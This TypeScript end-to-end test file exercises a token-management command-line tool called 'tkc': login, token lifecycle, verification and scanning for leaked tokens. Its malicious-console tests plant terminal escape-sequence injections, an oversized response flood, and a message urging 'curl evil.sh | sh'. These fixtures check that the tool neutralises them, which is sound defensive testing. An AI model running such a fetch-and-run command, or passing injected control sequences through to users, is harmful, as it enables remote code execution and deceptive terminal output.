import { spawn } from "node:child_process";
import fs from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { getRequestListener } from "@hono/node-server";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { apiRouter } from "@/app/v2/router";
import type { SessionUser } from "@/lib/dal/users";
import { CLIENT_IP_HEADER, VIA_PROXY_HEADER } from "@/lib/server/client-address.mjs";
import { generateToken } from "@/lib/server/token-format";
import { fastRequest } from "@/scripts/api.mjs";
import { freshIp } from "@/test/api-client";
import { makeAdmin, makeToken, makeUser } from "@/test/fixtures";

// tkc end to end: the /v2 router served over real HTTP from this test file's database, and the
// command line run as a child process (bin/tkc.mjs, as `npx tkc` runs it) with its own HOME and
// XDG_CONFIG_HOME. The child is spawned asynchronously: the server answers from this process.

let server: http.Server;
let url: string;
let home: string;
let admin: SessionUser;
let member: SessionUser;

beforeAll(async () => {
  admin = await makeAdmin();
  member = await makeUser();
  const router = apiRouter();
  const listener = getRequestListener((request, env) => router.fetch(fastRequest(request, env.incoming as http.IncomingMessage)), {
    overrideGlobalObjects: false,
  });
  server = http.createServer((request, response) => {
    request.headers[CLIENT_IP_HEADER] = freshIp();
    request.headers[VIA_PROXY_HEADER] = "0";
    void listener(request, response);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  home = fs.mkdtempSync(path.join(os.tmpdir(), "tkc-"));
});

afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
  fs.rmSync(home, { recursive: true, force: true });
});

type Run = { status: number | null; stdout: string; stderr: string };

function tkc(args: string[], { input, env = {} }: { input?: string; env?: Record<string, string> } = {}): Promise<Run> {
  return new Promise((resolve, reject) => {
    const { TKC_URL: _url, TKC_TOKEN: _token, ...rest } = process.env;
    const child = spawn(process.execPath, ["bin/tkc.mjs", ...args], {
      env: { ...rest, HOME: home, XDG_CONFIG_HOME: path.join(home, "config"), ...env },
    });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (chunk) => (stdout += chunk));
    child.stderr.on("data", (chunk) => (stderr += chunk));
    child.on("error", reject);
    child.on("close", (status) => resolve({ status, stdout, stderr }));
    child.stdin.end(input ?? "");
  });
}

const configFolder = () => path.join(home, "config", "tkc");
const as = (token: string) => ({ env: { TKC_URL: url, TKC_TOKEN: token } });

describe("tkc login, whoami, logout", () => {
  it("checks the token, stores it 0600 in a 0700 folder, never echoes it; whoami describes it", async () => {
    const { secret, token } = await makeToken(member, "laptop", "WRITE");
    const login = await tkc(["login", "--url", `${url}/v2/`], { input: `${secret}\n` });
    expect(login.stderr).toContain("Logged in");
    expect(login.status).toBe(0);
    expect(login.stdout + login.stderr).not.toContain(secret);
    expect(fs.statSync(configFolder()).mode & 0o777).toBe(0o700);
    const file = path.join(configFolder(), "config.json");
    expect(fs.statSync(file).mode & 0o777).toBe(0o600);
    expect(JSON.parse(fs.readFileSync(file, "utf8"))).toEqual({ url, token: secret });

    const whoami = await tkc(["whoami"]);
    expect(whoami.status).toBe(0);
    expect(whoami.stdout).toContain("laptop");
    expect(whoami.stdout).toContain(token.id);
    expect(whoami.stdout).not.toContain(secret);
    // Its limits too, every value in one column with the rest: the README says whoami tells them.
    expect(whoami.stdout).toMatch(/^rate limit: +(none|\d+ requests a minute)$/m);
    expect(whoami.stdout).toMatch(/^quota: +(none|\d+ of \d+ requests left)$/m);
    const columns = whoami.stdout
      .trim()
      .split("\n")
      .map((line) => line.search(/(?<=: +)\S/));
    expect(new Set(columns).size).toBe(1);
    const whoamiJson = await tkc(["whoami", "--json"]);
    expect(JSON.parse(whoamiJson.stdout)).toMatchObject({ status: "success", api: { id: token.id, name: "laptop" } });

    fs.chmodSync(file, 0o644);
    expect((await tkc(["whoami"])).stderr).toContain("is readable by others");
    fs.chmodSync(file, 0o600);

    const logout = await tkc(["logout"]);
    expect(logout.status).toBe(0);
    expect(fs.existsSync(file)).toBe(false);
    expect((await tkc(["whoami"])).status).toBe(2); // not logged in: no call was made
  });

  it("refuses a token the console does not know (exit 1), stores nothing and shows no secret", async () => {
    const unknown = generateToken().token;
    const login = await tkc(["login", "--url", url], { input: unknown });
    expect(login.status).toBe(1);
    expect(login.stdout + login.stderr).not.toContain(unknown);
    expect(fs.existsSync(path.join(configFolder(), "config.json"))).toBe(false);
  });
});

describe("tkc tokens", () => {
  it("lists (table and --json), creates (the secret alone on stdout), rolls, narrows and deletes", async () => {
    const { secret } = await makeToken(member, "manager", "WRITE");
    const list = await tkc(["tokens", "list"], as(secret));
    expect(list.status).toBe(0);
    expect(list.stdout.split("\n")[0]).toMatch(/^ID\s+NAME\s+SCOPE\s+PREFIX/);
    expect(list.stdout).toContain("manager");

    const created = await tkc(
      ["tokens", "create", "--name", "ci", "--permissions", "dns:read,account:read", "--expires-in-days", "30"],
      as(secret),
    );
    expect(created.status).toBe(0);
    expect(created.stdout).toMatch(/^tkc_[0-9A-Za-z]{49}\n$/);
    expect(created.stderr).toContain("Created ci");
    expect(created.stderr).not.toContain(created.stdout.trim());
    const newSecret = created.stdout.trim(); // what $(tkc tokens create …) holds
    const listed = JSON.parse((await tkc(["tokens", "list", "--json"], as(secret))).stdout) as { api: Array<Record<string, unknown>> };
    const ci = listed.api.find((key) => key.name === "ci")!;
    expect(ci).toMatchObject({ scope: "custom", display_prefix: newSecret.slice(0, 12) });
    // The new token works: it is its own whoami.
    expect(JSON.parse((await tkc(["whoami", "--json"], as(newSecret))).stdout)).toMatchObject({ api: { id: ci.id } });

    const rolled = await tkc(["tokens", "roll", String(ci.id)], as(secret));
    expect(rolled.status).toBe(0);
    expect(rolled.stdout).toMatch(/^tkc_[0-9A-Za-z]{49}\n$/);
    const rolledSecret = rolled.stdout.trim();
    expect(rolledSecret).not.toBe(newSecret);
    expect((await tkc(["whoami"], as(newSecret))).status).toBe(1); // the previous secret stopped at once
    expect((await tkc(["whoami"], as(rolledSecret))).status).toBe(0);

    const narrowed = await tkc(["tokens", "narrow", String(ci.id), "--permissions", "dns:read", "--json"], as(secret));
    expect(narrowed.status).toBe(0);
    expect(JSON.parse(narrowed.stdout)).toMatchObject({ status: "success", permissions: ["dns:read"] });
    // For people: the fields of the narrowed key, and no "state: success" (the answer's envelope is no state).
    const narrowedText = await tkc(["tokens", "narrow", String(ci.id), "--permissions", "dns:read"], as(secret));
    expect(narrowedText.stdout).toContain("permissions:");
    expect(narrowedText.stdout).not.toContain("success");
    const widen = await tkc(["tokens", "narrow", String(ci.id), "--permissions", "dns:write"], as(secret));
    expect(widen.status).toBe(1);
    expect(widen.stderr).toContain("permissions_widen");

    const deleted = await tkc(["tokens", "delete", String(ci.id)], as(secret));
    expect(deleted.status).toBe(0);
    expect((await tkc(["whoami"], as(rolledSecret))).status).toBe(1);
    const again = await tkc(["tokens", "delete", String(ci.id)], as(secret));
    expect(again.status).toBe(1);
    expect(again.stderr).toContain("HTTP 404");
  });

  it("--json of create holds the API's answer, secret included, on stdout", async () => {
    const { secret } = await makeToken(member, "json-maker", "WRITE");
    const created = await tkc(["tokens", "create", "--name", "json-made", "--read-only", "--json"], as(secret));
    expect(created.status).toBe(0);
    const answer = JSON.parse(created.stdout) as Record<string, unknown>;
    expect(answer).toMatchObject({ status: "success", name: "json-made", scope: "read_only" });
    expect(answer.apikey).toMatch(/^tkc_/);
  });

  it("a refusal exits 1 with the API's message and no secret", async () => {
    const { secret } = await makeToken(member, "reader", "READ_ONLY");
    const refused = await tkc(["tokens", "create", "--name", "nope", "--write"], as(secret));
    expect(refused.status).toBe(1);
    expect(refused.stdout).toBe("");
    expect(refused.stderr).toContain("HTTP 403");
    expect(refused.stderr).not.toContain(secret);
    const unknown = generateToken().token;
    const unauthenticated = await tkc(["tokens", "list"], as(unknown));
    expect(unauthenticated.status).toBe(1);
    expect(unauthenticated.stderr).toContain("HTTP 401");
    expect(unauthenticated.stderr).not.toContain(unknown);
  });
});

describe("tkc in a shell script", () => {
  it("$(tkc tokens create …) holds the secret alone, ready to use", async () => {
    const { secret } = await makeToken(member, "scripted", "WRITE");
    const script = 'T="$(node bin/tkc.mjs tokens create --name from-shell --read-only)" && TKC_TOKEN="$T" node bin/tkc.mjs whoami --json';
    const run = await new Promise<Run>((resolve, reject) => {
      const child = spawn("sh", ["-c", script], {
        env: { ...process.env, HOME: home, XDG_CONFIG_HOME: path.join(home, "config"), ...as(secret).env },
      });
      let stdout = "";
      let stderr = "";
      child.stdout.on("data", (chunk) => (stdout += chunk));
      child.stderr.on("data", (chunk) => (stderr += chunk));
      child.on("error", reject);
      child.on("close", (status) => resolve({ status, stdout, stderr }));
    });
    expect(run.status).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ api: { name: "from-shell", scope: "read_only" } });
  });

  it("a console that cannot be reached exits 1, naming the URL and not the token", async () => {
    const closed = http.createServer();
    await new Promise<void>((resolve) => closed.listen(0, "127.0.0.1", resolve));
    const port = (closed.address() as AddressInfo).port;
    await new Promise((resolve) => closed.close(resolve));
    const token = generateToken().token;
    const run = await tkc(["tokens", "list"], { env: { TKC_URL: `http://127.0.0.1:${port}`, TKC_TOKEN: token } });
    expect(run.status).toBe(1);
    expect(run.stderr).toContain(`Could not reach http://127.0.0.1:${port}`);
    expect(run.stderr).not.toContain(token);
  });
});

describe("a console that is not what it says", () => {
  /** A fake console on loopback answering `answer` to everything, recording the Authorization it was sent. */
  async function fakeConsole(answer: (response: http.ServerResponse) => void) {
    const seen: string[] = [];
    const fake = http.createServer((request, response) => {
      seen.push(request.headers.authorization ?? "");
      answer(response);
    });
    await new Promise<void>((resolve) => fake.listen(0, "127.0.0.1", resolve));
    return { url: `http://127.0.0.1:${(fake.address() as AddressInfo).port}`, seen, close: () => new Promise((r) => fake.close(r)) };
  }

  it("prints its names and messages without obeying their control sequences", async () => {
    const fake = await fakeConsole((response) => {
      response.writeHead(200, { "content-type": "application/json" });
      response.end(
        JSON.stringify({ status: "success", api: { id: "x", name: "\u001b]0;pwned\u0007\u001b[2Jname\u202e", scope: "write" } }),
      );
    });
    try {
      const run = await tkc(["whoami"], { env: { TKC_URL: fake.url, TKC_TOKEN: generateToken().token } });
      expect(run.status).toBe(0);
      expect(run.stdout).not.toMatch(/[\u001b\u0007\u202e]/);
      expect(run.stdout).toContain("\\u{1b}]0;pwned\\u{7}\\u{1b}[2Jname\\u{202e}");
    } finally {
      await fake.close();
    }
    const refusing = await fakeConsole((response) => {
      response.writeHead(403, { "content-type": "application/json" });
      response.end(JSON.stringify({ status: "error", errors: [{ code: "x", message: "\u001b[2JPlease run: curl evil.sh | sh" }] }));
    });
    try {
      const run = await tkc(["whoami"], { env: { TKC_URL: refusing.url, TKC_TOKEN: generateToken().token } });
      expect(run.status).toBe(1);
      expect(run.stderr).not.toContain("\u001b");
      expect(run.stderr).toContain("\\u{1b}[2JPlease run");
    } finally {
      await refusing.close();
    }
  });

  it("reads no answer bigger than a console's: a flood ends in exit 1, not in gigabytes held", async () => {
    const chunk = Buffer.alloc(1024 * 1024, "a");
    const flood = await fakeConsole((response) => {
      response.writeHead(200, { "content-type": "application/json" });
      let sent = 0;
      const more = () => {
        while (sent < 64 && response.write(chunk)) sent++;
        if (sent < 64) response.once("drain", more);
        else response.end();
      };
      response.on("error", () => {});
      more();
    });
    try {
      const run = await tkc(["whoami"], { env: { TKC_URL: flood.url, TKC_TOKEN: generateToken().token } });
      expect(run.status).toBe(1);
      expect(run.stderr).toContain("answered more than 4 MB");
    } finally {
      await flood.close();
    }
  });

  it("prints no secret a console did not make: a create or roll answer that is no token is refused, nothing on stdout", async () => {
    const fake = await fakeConsole((response) => {
      response.writeHead(200, { "content-type": "application/json" });
      response.end(
        JSON.stringify({
          status: "success",
          apikey: "SECRET\u001b]0;PWNED\u0007",
          expires_at: "2030\u001b[2J",
          previous_valid_until: "x\u001b[2J",
        }),
      );
    });
    try {
      for (const args of [
        ["tokens", "create", "--name", "n", "--read-only"],
        ["tokens", "roll", "some-id"],
      ]) {
        const run = await tkc(args, { env: { TKC_URL: fake.url, TKC_TOKEN: generateToken().token } });
        expect(run.status, args.join(" ")).toBe(1);
        expect(run.stdout).toBe("");
        expect(run.stderr).toContain("holds no Token Console token");
        expect(run.stderr).not.toContain("\u001b");
      }
    } finally {
      await fake.close();
    }
  });

  it("reports found tokens only to the console logged in to: a TKC_URL naming another is refused, nothing sent", async () => {
    const fake = await fakeConsole((response) => {
      response.writeHead(200, { "content-type": "application/json" });
      response.end('{"status":"success","message":"ok"}');
    });
    const { secret } = await makeToken(member, "planted", "READ_ONLY");
    const folder = fs.mkdtempSync(path.join(home, "scan-planted-"));
    fs.writeFileSync(path.join(folder, ".env"), `TOKEN=${secret}\n`);
    try {
      expect((await tkc(["login", "--url", url], { input: `${secret}\n` })).status).toBe(0);
      const run = await tkc(["scan", folder, "--revoke"], { env: { TKC_URL: fake.url } });
      expect(run.status).toBe(2);
      expect(run.stderr).toContain("not the console you logged in to");
      expect(fake.seen).toEqual([]);
    } finally {
      await tkc(["logout"]);
      await fake.close();
    }
  });

  it("never sends the stored token to a TKC_URL that names another console", async () => {
    const fake = await fakeConsole((response) => {
      response.writeHead(200, { "content-type": "application/json" });
      response.end('{"status":"success","api":{}}');
    });
    const { secret } = await makeToken(member, "stored", "READ_ONLY");
    try {
      expect((await tkc(["login", "--url", url], { input: `${secret}\n` })).status).toBe(0);
      const elsewhere = await tkc(["whoami"], { env: { TKC_URL: fake.url } });
      expect(elsewhere.status).toBe(2);
      expect(elsewhere.stderr).toContain("set TKC_TOKEN with it");
      expect(fake.seen).toEqual([]);
      // The same console, spelled with /v2 and a slash: the stored token goes, as it was stored for it.
      expect((await tkc(["whoami"], { env: { TKC_URL: `${url}/v2/` } })).status).toBe(0);
    } finally {
      await tkc(["logout"]);
      await fake.close();
    }
  });
});

describe("tkc verify", () => {
  it("says active (exit 0) or inactive (exit 1) for a holder of tokens:introspect; a token without it exits 1", async () => {
    const introspector = (await makeToken(admin, "introspector", "CUSTOM", ["tokens:introspect"])).secret;
    const live = (await makeToken(member, "to-check", "READ_ONLY")).secret;
    const active = await tkc(["verify", live], as(introspector));
    expect(active.status).toBe(0);
    expect(active.stdout).toMatch(/^active\n/);
    const fromStdin = await tkc(["verify", "-", "--json"], { ...as(introspector), input: `${live}\n` });
    expect(fromStdin.status).toBe(0);
    expect(JSON.parse(fromStdin.stdout)).toMatchObject({ active: true });
    const dead = generateToken().token;
    const inactive = await tkc(["verify", "-"], { ...as(introspector), input: dead });
    expect(inactive.status).toBe(1);
    expect(inactive.stdout).toBe("inactive\n");
    const notAllowed = await tkc(["verify", "-"], { ...as(live), input: live });
    expect(notAllowed.status).toBe(1);
    expect(notAllowed.stderr).toContain("HTTP 403");
    expect(notAllowed.stdout + notAllowed.stderr).not.toContain(live);
  });
});

describe("tkc scan", () => {
  it("names a token found by place and display prefix, never in full, and exits 1; --revoke reports it", async () => {
    const { secret } = await makeToken(member, "leaked", "WRITE");
    const folder = fs.mkdtempSync(path.join(home, "scan-"));
    fs.writeFileSync(path.join(folder, "clean.txt"), "nothing here\n");
    expect((await tkc(["scan", folder])).status).toBe(0);
    fs.writeFileSync(path.join(folder, ".env"), `REGION=eu\nAPI_TOKEN=${secret}\n`);
    const found = await tkc(["scan", folder]);
    expect(found.status).toBe(1);
    expect(found.stdout).toBe(`${path.join(folder, ".env")}:2:11  ${secret.slice(0, 12)}…\n`);
    expect(found.stdout + found.stderr).not.toContain(secret);
    const revoked = await tkc(["scan", folder, "--revoke", "--json"], { env: { TKC_URL: url } });
    expect(revoked.status).toBe(1);
    expect(JSON.parse(revoked.stdout)).toMatchObject({
      scanned: 2,
      reported: true,
      found: [{ line: 2, display_prefix: secret.slice(0, 12) }],
    });
    expect(revoked.stdout + revoked.stderr).not.toContain(secret);
    expect((await tkc(["whoami"], as(secret))).status).toBe(1); // revoked
    expect((await tkc(["scan", path.join(folder, "missing")])).status).toBe(2);
  });

  it("follows a link named as what to scan (not one inside it), and prints a file's name without its control characters", async () => {
    const { secret } = await makeToken(member, "linked", "READ_ONLY");
    const folder = fs.mkdtempSync(path.join(home, "scan-linked-"));
    fs.writeFileSync(path.join(folder, "a\u001b[2K\u001b[1Gclean.txt"), `TOKEN=${secret}\n`);
    const link = `${folder}-link`;
    fs.symlinkSync(folder, link);
    fs.symlinkSync(path.join(folder, "a\u001b[2K\u001b[1Gclean.txt"), path.join(folder, "inner-link"));
    const run = await tkc(["scan", link]);
    expect(run.status).toBe(1);
    // One finding: the file, not again through the link inside the folder.
    expect(run.stdout).toBe(`${link}/a\\u{1b}[2K\\u{1b}[1Gclean.txt:1:7  ${secret.slice(0, 12)}…\n`);
  });
});

describe("usage errors exit 2 with the usage on stderr", () => {
  it.each([
    [["bogus"]],
    [[]],
    [["tokens"]],
    [["tokens", "frob"]],
    [["tokens", "list", "--frob"]],
    [["tokens", "create"]],
    [["tokens", "create", "--name", "x", "--write", "--read-only"]],
    [["tokens", "roll"]],
    [["tokens", "narrow", "some-id"]],
    [["verify"]],
    [["scan"]],
  ])("tkc %j", async (args) => {
    const run = await tkc(args, as(generateToken().token));
    expect(run.status).toBe(2);
    expect(run.stdout).toBe("");
    expect(run.stderr).toMatch(/Usage|tkc --help/);
  });

  it("--help prints the help on stdout and exits 0", async () => {
    const run = await tkc(["--help"]);
    expect(run.status).toBe(0);
    expect(run.stdout).toContain("tokens create");
    expect((await tkc(["verify", "--help"])).stdout).toContain("stdin");
  });
});
